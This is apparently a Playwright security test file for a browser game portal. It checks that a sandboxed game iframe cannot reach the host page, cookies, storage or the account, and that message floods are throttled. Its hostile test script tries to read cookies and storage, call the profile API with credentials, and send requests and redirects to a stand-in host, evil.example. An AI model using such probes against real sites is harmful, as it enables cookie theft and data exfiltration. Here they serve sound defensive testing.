import type { Page } from "@playwright/test";
import { findCatalogue } from "./catalogue";
import { expect, test } from "./portal";

const GAME_STARTS_MS = 30_000;

const HOSTILE_SCRIPT = `
const found = {};
const attempt = async (name, act) => {
  try { found[name] = String(await act()); } catch (error) { found[name] = "refused"; }
};
const say = (message) => parent.postMessage(message, "*");
await attempt("cookie", () => document.cookie);
await attempt("storage", () => localStorage.length);
await attempt("pageStorage", () => parent.localStorage.length);
await attempt("dom", () => parent.document.title);
await attempt("pageAddress", () => parent.location.href);
await attempt("profile", async () => (await fetch("/embedded/api/profile", { credentials: "include" })).status);
await attempt("elsewhere", async () => (await fetch("https://evil.example/?stolen")).status);
await attempt("popup", () => (window.open("https://evil.example/") === null ? "refused" : "opened"));
await attempt("top", () => { top.location.href = "https://evil.example/"; return "sent"; });
await attempt("topReplaced", () => { top.location.replace("https://evil.example/"); return "sent"; });
say({ type: "LOAD_PROGRESS", gameId: "", progress: 7 });
say({ type: "SCORE", score: 1e300 });
say({ type: "SCORE", score: -1 });
say({ type: "SAVE_SET", slot: "", data: 1 });
say({ type: "SAVE_SET", slot: "x", data: "y".repeat(3_000_000) });
say({ type: "ROOM_SEND", data: () => 1 }.type);
say({ type: "INIT", __proto__: null });
say("{}");
say(null);
for (let index = 0; index < 20_000; index++) say({ type: "FLOOD", index });
say({ type: "GAME_READY" });
document.documentElement.dataset.found = JSON.stringify(found);
`;

const FLOODING_SCRIPT = `
const say = (message) => parent.postMessage(message, "*");
say({ type: "GAME_READY" });
const kinds = ["LOAD_PROGRESS", "SCORE", "SAVE_GET", "SAVE_SET", "ROOM_SEND", "ROOM_JOIN", "LOGIN_REQUEST", "HAPPY_TIME"];
for (let index = 0; index < 2_500; index++) {
  say({ type: "LOAD_PROGRESS", gameId: "", progress: (index % 100) / 100 });
  say({ type: "SCORE", score: index });
  say({ type: "SAVE_GET", slot: String(index % 900) });
  say({ type: "SAVE_SET", slot: String(index % 900), data: { index } });
  say({ type: "ROOM_SEND", data: index });
  say({ type: "ROOM_JOIN" });
  say({ type: "LOGIN_REQUEST" });
  for (const type of kinds) say({ type, score: NaN, slot: {}, progress: "1", gameId: 7, data: 1n });
}
document.documentElement.dataset.found = "flooded";
`;

/** Serves another game as Softfall, with the same security policy. */
async function replaceGame(page: Page, script: string): Promise<void> {
  await page.route("**/play/softfall/index.html*", async (route) => {
    const response = await route.fetch();
    const body = '<!doctype html><title>Evil</title><script type="module" src="evil.js"></script>';
    await route.fulfill({ response, body });
  });
  await page.route("**/play/softfall/evil.js", async (route) => {
    const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
    await route.fulfill({ headers, body: script });
  });
}

test("a hostile game cannot reach the page, the account or other sites", async ({ page, consoleErrors }) => {
  const { game } = await findCatalogue(page, "Softfall");
  await replaceGame(page, HOSTILE_SCRIPT);
  const popups: Page[] = [];
  page.context().on("page", (opened) => popups.push(opened));
  const posts: string[] = [];
  page.on("request", (request) => {
    if (request.method() === "POST" && !request.url().includes("/api/plays")) posts.push(request.url());
  });
  await page.goto(game);
  await page.getByRole("button", { name: "Play Softfall" }).click();
  const frame = page.frameLocator("iframe.game-frame").locator("html");
  await expect(frame).toHaveAttribute("data-found", /topReplaced/);
  const found: unknown = JSON.parse((await frame.getAttribute("data-found")) ?? "");
  expect(found).toEqual({
    ...{ cookie: "refused", storage: "refused", pageStorage: "refused", dom: "refused", pageAddress: "refused" },
    ...{ profile: "refused", elsewhere: "refused", popup: "refused", top: "refused", topReplaced: "refused" },
  });

  await test.step("the page around it is unchanged", async () => {
    expect(popups).toEqual([]);
    expect(posts).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(game);
    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("saves:")))).toEqual([]);
    await page.getByRole("button", { name: "Controls" }).click();
    await expect(page.getByRole("dialog", { name: "Controls" })).toBeVisible();
  });
  // The browser logs the blocked attempts.
  consoleErrors.splice(0);
});

const recordPosts = (page: Page) => {
  const posted: string[] = [];
  page.on("request", (request) => {
    if (request.method() === "POST") posted.push(new URL(request.url()).pathname);
  });
  return { posted, to: (path: string) => posted.filter((address) => address.startsWith(path)).length };
};
const storedSlots = (page: Page) =>
  page.evaluate(() => {
    const key = Object.keys(localStorage).find((name) => name.startsWith("saves:"));
    return key === undefined ? 0 : Object.keys(JSON.parse(localStorage.getItem(key) ?? "{}") as object).length;
  });

test("a game that floods the page is throttled", { tag: "@wide" }, async ({ page, consoleErrors }) => {
  const { game } = await findCatalogue(page, "Softfall");
  await replaceGame(page, FLOODING_SCRIPT);
  await page.goto(game);
  const changes = recordPosts(page);
  await page.getByRole("button", { name: "Play Softfall" }).click();
  await expect(page.frameLocator("iframe.game-frame").locator("html")).toHaveAttribute("data-found", "flooded", {
    timeout: GAME_STARTS_MS,
  });
  await page.getByRole("button", { name: "Controls" }).click();
  await expect(page.getByRole("dialog", { name: "Controls" })).toBeVisible();
  expect(await storedSlots(page)).toBeLessThanOrEqual(50);
  expect(changes.to("/api/plays")).toBe(1);
  // The throttle allows five at once, then one every two seconds; the flood ends before it reaches 40.
  expect(changes.to("/api/scores")).toBeLessThanOrEqual(40);
  expect(changes.to("/api/rooms") + changes.to("/api/room-messages")).toBe(0);
  // A slow machine may time out a score, which the browser logs.
  consoleErrors.splice(0);
});

test("valid messages from the wrong window are ignored", async ({ page }) => {
  const { game } = await findCatalogue(page, "Softfall");
  await page.goto(game);
  await page.getByRole("button", { name: "Play Softfall" }).click();
  await expect(page.frameLocator("iframe.game-frame").locator("canvas")).toBeVisible({ timeout: GAME_STARTS_MS });
  await expect(page.locator(".game-slot .player-status")).toHaveCount(0, { timeout: GAME_STARTS_MS });
  const changes = recordPosts(page);
  await page.evaluate(() => {
    const stranger = document.createElement("iframe");
    stranger.name = "stranger";
    stranger.srcdoc = "<p>Stranger</p>";
    document.body.append(stranger);
  });
  await expect(page.frameLocator('iframe[name="stranger"]').locator("p")).toBeVisible();
  const attempts = [
    { type: "SCORE", score: 9 },
    { type: "SAVE_SET", slot: "stolen", data: 1 },
    { type: "SAVE_GET", slot: "stolen" },
    { type: "LOGIN_REQUEST" },
    { type: "ROOM_JOIN" },
  ];

  await test.step("messages of another frame get no reply", async () => {
    const stranger = page.frame("stranger");
    const replies = await stranger?.evaluate(async (messages) => {
      const received: unknown[] = [];
      window.addEventListener("message", ({ data }) => received.push(data));
      for (let time = 0; time < 1_000; time++) for (const message of messages) parent.postMessage(message, "*");
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      return received;
    }, attempts);
    expect(replies).toEqual([]);
  });

  await test.step("nor do those of the page itself or of another origin", async () => {
    await page.evaluate(async (messages) => {
      const frame = document.querySelector<HTMLIFrameElement>("iframe.game-frame");
      for (const data of messages) {
        window.postMessage(data, "*");
        for (const origin of ["https://evil.example", window.location.origin, ""]) {
          window.dispatchEvent(new MessageEvent("message", { data, origin, source: frame?.contentWindow ?? null }));
        }
      }
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    }, attempts);
  });
  expect(changes.posted).toEqual([]);
  expect(await storedSlots(page)).toBe(0);
  await expect(page.locator(".player-bar a")).toHaveCount(0);
  expect(new URL(page.url()).pathname).toBe(game);
});
